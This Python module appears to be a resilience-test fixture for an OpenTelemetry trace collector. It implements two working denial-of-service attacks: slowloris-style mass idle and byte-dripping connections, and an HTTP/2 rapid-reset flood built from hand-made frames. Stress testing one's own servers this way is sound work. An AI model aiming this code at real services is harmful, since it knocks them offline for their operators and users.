"""Clients that mean harm: many that wait, many that dawdle, some that open and reset."""

import asyncio
import contextlib
import multiprocessing
import resource
import socket
import time
from collections.abc import Iterator
from dataclasses import dataclass
from multiprocessing.connection import Connection

IDLE, SLOW = 1_000, 200
DRIP_SECONDS = 0.5
HEAD = b"POST /v1/traces HTTP/1.1\r\nhost: x\r\ncontent-type: application/x-protobuf\r\n"

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, RST_STREAM, SETTINGS, GOAWAY = 1, 3, 4, 7
END_HEADERS = 4
EXPORT = "/opentelemetry.proto.collector.trace.v1.TraceService/Export"


@dataclass(frozen=True)
class Harm:
    """What the hostile clients did."""

    idle: int
    slow: int
    dripped: int


@contextlib.contextmanager
def waiting_and_dawdling(address: str, idle: int = IDLE, slow: int = SLOW) -> Iterator[None]:
    """Hold `idle` connections open and send `slow` bodies byte by byte, from a process of their own."""
    context = multiprocessing.get_context("spawn")
    ours, theirs = context.Pipe()
    process = context.Process(target=_attack, args=(theirs, address, idle, slow))
    process.start()
    try:
        assert ours.poll(30), "the attack did not begin"
        assert ours.recv() == "begun"
        yield
        ours.send("stop")
        harm: Harm = ours.recv()
        assert (harm.idle, harm.slow) == (idle, slow)
        assert harm.dripped
    finally:
        process.kill()
        process.join()


def _attack(pipe: Connection, address: str, idle: int, slow: int) -> None:
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, 16_384), hard))
    asyncio.run(_hold(pipe, address, idle, slow))


async def _hold(pipe: Connection, address: str, idle: int, slow: int) -> None:
    host, port = address.rsplit(":", 1)

    async def connect(greeting: bytes) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
        reader, writer = await asyncio.open_connection(host, int(port))
        writer.write(greeting)
        return reader, writer

    # Half of the idle ones were good once and are kept alive, half never said a word.
    held = [await connect(b"GET /livez HTTP/1.1\r\nhost: x\r\n\r\n" if at % 2 else b"") for at in range(idle)]
    drips = [await connect(HEAD + b"content-length: 100000\r\n\r\n") for _ in range(slow)]
    pipe.send("begun")
    dripped = 0
    while not pipe.poll():
        await asyncio.sleep(DRIP_SECONDS)
        for _, writer in drips:
            if not writer.is_closing():
                with contextlib.suppress(OSError):
                    writer.write(b"\x00")
                    dripped += 1
    pipe.send(Harm(len(held), len(drips), dripped))


def _frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def _literal(name: str, value: str) -> bytes:
    """A header in HPACK's plainest form: not indexed, not compressed."""
    return b"\x00" + bytes([len(name)]) + name.encode() + bytes([len(value)]) + value.encode()


def rapid_reset(address: str, streams: int) -> tuple[int, float]:
    """Open streams and reset each at once, as fast as the server lets; how many it took, and seconds."""
    request = {":method": "POST", ":scheme": "http", ":path": EXPORT, ":authority": "x"}
    block = b"".join(
        _literal(*pair) for pair in (request | {"content-type": "application/grpc", "te": "trailers"}).items()
    )
    host, port = address.rsplit(":", 1)
    sent, started = 0, time.monotonic()
    while sent < streams:
        with socket.create_connection((host, int(port)), timeout=5) as connection, contextlib.suppress(OSError):
            connection.sendall(PREFACE + _frame(SETTINGS, 0, 0))
            for number in range(1, 2 * min(streams - sent, 2_000), 2):
                opened = _frame(HEADERS, END_HEADERS, number, block)
                connection.sendall(opened + _frame(RST_STREAM, 0, number, (8).to_bytes(4, "big")))
                sent += 1
    return sent, time.monotonic() - started
